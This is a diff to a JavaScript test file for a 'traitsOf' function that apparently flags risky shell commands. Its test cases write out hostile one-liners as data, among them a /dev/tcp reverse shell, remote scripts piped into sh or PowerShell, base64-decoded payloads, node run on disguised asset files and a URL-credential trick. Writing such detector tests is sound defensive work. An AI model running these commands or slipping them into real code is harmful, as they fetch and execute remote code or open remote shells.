@@ -9,9 +9,11 @@ describe('traitsOf', () => {
     ['regsvr32 /s /n /u /i:https://a.example/x.sct scrobj.dll', ['fetches', 'pipes-into-shell']], ['bash -i >& /dev/tcp/a.example/443 0>&1', ['fetches', 'pipes-into-shell']], ['dig +short txt a.example | sh', ['fetches', 'pipes-into-shell']],
     ['powershell -c "iex (irm https://a.example/x)"', ['fetches', 'pipes-into-shell']], ['certutil -urlcache -f https://a.example/x x', ['fetches']], ['/usr/bin/curl -O https://a.example/x', ['fetches']],
     ['echo aGVsbG8= | base64 -d | sh', ['pipes-into-shell', 'encoded']], ['node public/a.woff2', ['disguised-target']], ['node -r ./a.png x.js', ['disguised-target']], ['NODE_OPTIONS="--require ./x" npm start', []],
+    ['node -e "$(echo YWxlcnQoMSk7 | base64 -d)"', ['pipes-into-shell', 'encoded', 'inline-code']], ['perl -e "`curl -s https://a.example/x`"', ['fetches', 'pipes-into-shell']],
+    ['curl -s localhost:3000/x | sh', ['fetches', 'pipes-into-shell']], ['curl -s http://localhost:3000 && curl https://a.example/x', ['fetches']], ['curl http://127.0.0.1:80@a.example/x', ['fetches']],
     ['/usr/bin/node -e "1"', ['inline-code']], ['nohup node x.js', ['detached']], ['start /b node x.js', ['detached']],
   ])('%s', (command, traits) => expect(traitsOf(command)).toEqual(expect.arrayContaining(traits)));
 
-  it.each(['deno run -A https://deno.land/x/fresh/update.ts', 'npx create-next-app@latest', 'npx github:acme/tool', 'node server.js', 'tsc && node dist/index.js', 'echo {a,b}', 'git log | head', 'cat a.txt | grep b', 'npm run a & npm run b', 'docker compose up -d', 'node dist/curl.js'])(
+  it.each(['deno run -A https://deno.land/x/fresh/update.ts', 'npx create-next-app@latest', 'npx github:acme/tool', 'node server.js', 'tsc && node dist/index.js', 'echo {a,b}', 'git log | head', 'cat a.txt | grep b', 'npm run a & npm run b', 'docker compose up -d', 'node dist/curl.js', 'git push -c "$(git log)"', "curl -s http://localhost:8545 -H 'Content-Type: application/json' --data x"])(
     'nothing in %s', (command) => expect(traitsOf(command)).toEqual([]));
 });
